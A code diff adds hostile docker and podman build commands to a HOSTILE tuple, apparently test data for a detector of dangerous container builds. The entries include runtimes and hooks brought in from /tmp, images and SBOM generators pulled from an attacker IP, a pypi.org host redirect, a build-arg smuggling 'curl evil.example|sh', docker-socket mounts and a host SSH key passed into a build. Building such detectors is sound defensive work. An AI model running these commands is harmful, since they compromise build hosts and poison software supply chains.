@@ -91,6 +91,28 @@ HOSTILE = (
     "docker buildx build --ssh default=/etc/ssh/ssh_host_ed25519_key /tmp/a",
     "docker build --cgroup-parent=/ --no-cache /tmp/a",
     "docker build --cgroup-parent system.slice /tmp/a",
+    # What runs the steps was brought along
+    "podman --runtime /tmp/a/crun build -t a /tmp/a",
+    "podman build --runtime=/tmp/a/crun --no-cache /tmp/a",
+    "podman --hooks-dir /tmp/a/h build -t a /tmp/a",
+    "/tmp/a/docker build -t a /tmp/a",
+    # What it is given is somebody's
+    "docker buildx build --sbom=generator=203.0.113.9/x /tmp/a",
+    "docker buildx build --attest type=sbom,generator=203.0.113.9/x /tmp/a",
+    "podman build --sbom-scanner-image 203.0.113.9/x /tmp/a",
+    "podman build --from 203.0.113.9/x /tmp/a",
+    "docker build --cache-from 203.0.113.9/x --no-cache /tmp/a",
+    "docker build --build-context b=docker-image://203.0.113.9/x /tmp/a",
+    "docker build --add-host pypi.org:203.0.113.9 /tmp/a",
+    "docker build --build-arg A=http://203.0.113.9/a --no-cache /tmp/a",
+    "docker build --build-arg 'A=curl${IFS}evil.example/a|sh' /tmp/a",
+    "docker build --build-arg BUILDKIT_SYNTAX=evil.example/fe --no-cache /tmp/a",
+    # A name that is somebody's
+    "docker build --no-cache -t nginx:latest /tmp/a",
+    "docker build -t dockerhub.io/x --push /tmp/a",
+    # In a container, or asked of another engine to come
+    "docker run -v /var/run/docker.sock:/s -v /tmp/a:/w docker:cli build /w",
+    "docker buildx create --driver remote tcp://203.0.113.9:1234",
     # A source that is somebody's
     "docker build -f /tmp/a/D github.com/evil/x",
     "docker build -f /tmp/a/D github.com/evil/x#main:sub",
